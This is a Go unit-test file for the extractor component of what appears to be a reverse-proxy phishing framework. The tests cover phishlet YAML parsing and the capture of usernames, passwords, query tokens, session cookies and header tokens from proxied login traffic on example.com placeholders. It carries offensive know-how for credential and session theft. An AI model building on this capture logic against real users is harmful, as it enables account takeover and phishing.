package core

import (
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func testExtractor(t *testing.T) *Extractor {
	t.Helper()
	pl, err := ParsePhishlet([]byte(testPhishletYaml))
	require.NoError(t, err)
	return NewExtractor(pl)
}

func TestExtractCredentialsFromForm(t *testing.T) {
	ex := testExtractor(t)

	body := "user=alice&pass=hunter2&remember=1"
	req := httptest.NewRequest("POST", "https://login.example.com/signin", strings.NewReader(body))
	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")

	creds := ex.ExtractCredentials(req, []byte(body))
	assert.Equal(t, "alice", creds["username"])
	assert.Equal(t, "hunter2", creds["password"])
	assert.Len(t, creds, 2)
}

func TestExtractCredentialsAltFieldNames(t *testing.T) {
	ex := testExtractor(t)

	body := "username=bob&password=s3cret"
	req := httptest.NewRequest("POST", "https://login.example.com/signin", strings.NewReader(body))
	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")

	creds := ex.ExtractCredentials(req, []byte(body))
	assert.Equal(t, "bob", creds["username"])
	assert.Equal(t, "s3cret", creds["password"])
}

func TestExtractCredentialsNoMatch(t *testing.T) {
	ex := testExtractor(t)

	body := "csrf=abc&lang=en"
	req := httptest.NewRequest("POST", "https://login.example.com/signin", strings.NewReader(body))
	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")

	creds := ex.ExtractCredentials(req, []byte(body))
	assert.Empty(t, creds)
}

func TestExtractCredentialsFromQuery(t *testing.T) {
	yaml := `name: qcreds
proxy_hosts:
  - phish_sub: 'www'
    orig_sub: 'www'
    domain: 'example.com'
    is_landing: true
credentials:
  token:
    key: '^auth$'
    search: '^(.+)$'
    type: 'query'
`
	pl, err := ParsePhishlet([]byte(yaml))
	require.NoError(t, err)
	ex := NewExtractor(pl)

	req := httptest.NewRequest("GET", "https://www.example.com/cb?auth=xyz123", nil)
	creds := ex.ExtractCredentials(req, nil)
	assert.Equal(t, "xyz123", creds["token"])
}

func tokenResponse(cookies []*http.Cookie, headers map[string]string) *http.Response {
	resp := &http.Response{
		StatusCode: 200,
		Header:     make(http.Header),
	}
	for _, ck := range cookies {
		resp.Header.Add("Set-Cookie", ck.String())
	}
	for k, v := range headers {
		resp.Header.Set(k, v)
	}
	return resp
}

func TestExtractCookieToken(t *testing.T) {
	ex := testExtractor(t)

	resp := tokenResponse([]*http.Cookie{
		{Name: "sid", Value: "tok-123", Domain: "example.com", Path: "/", HttpOnly: true, Secure: true},
		{Name: "theme", Value: "dark"},
	}, nil)

	tokens, captured := ex.ExtractTokens(resp, "login.example.com")
	assert.Equal(t, "tok-123", tokens["session_token"])
	require.Len(t, captured, 1)
	assert.Equal(t, ".example.com", captured[0].Domain)
	assert.Equal(t, "sid", captured[0].Cookie.Name)
	assert.True(t, captured[0].Cookie.HttpOnly)
	assert.True(t, captured[0].Cookie.Session)
}

func TestExtractCookieTokenDomainDefaulting(t *testing.T) {
	ex := testExtractor(t)

	// no Domain attribute: the cookie scopes to the origin host, which sits
	// under the rule's domain
	resp := tokenResponse([]*http.Cookie{
		{Name: "sid", Value: "tok-456"},
	}, nil)

	tokens, _ := ex.ExtractTokens(resp, "login.example.com")
	assert.Equal(t, "tok-456", tokens["session_token"])
}

func TestExtractIgnoresExpiredAndEmptyCookies(t *testing.T) {
	ex := testExtractor(t)

	resp := tokenResponse([]*http.Cookie{
		{Name: "sid", Value: "gone", Domain: "example.com", Expires: time.Now().Add(-time.Hour)},
		{Name: "sid", Value: "", Domain: "example.com"},
	}, nil)

	tokens, captured := ex.ExtractTokens(resp, "login.example.com")
	assert.Empty(t, tokens)
	assert.Empty(t, captured)
}

func TestExtractHeaderToken(t *testing.T) {
	ex := testExtractor(t)

	resp := tokenResponse(nil, map[string]string{"X-Csrf-Token": "csrf-789"})

	tokens, captured := ex.ExtractTokens(resp, "api.example.com")
	assert.Equal(t, "csrf-789", tokens["csrf"])
	assert.Empty(t, captured)
}

func TestExtractCookieOutsideRuleDomain(t *testing.T) {
	ex := testExtractor(t)

	resp := tokenResponse([]*http.Cookie{
		{Name: "sid", Value: "leak", Domain: "examplecdn.com"},
	}, nil)

	tokens, _ := ex.ExtractTokens(resp, "static.examplecdn.com")
	assert.Empty(t, tokens)
}
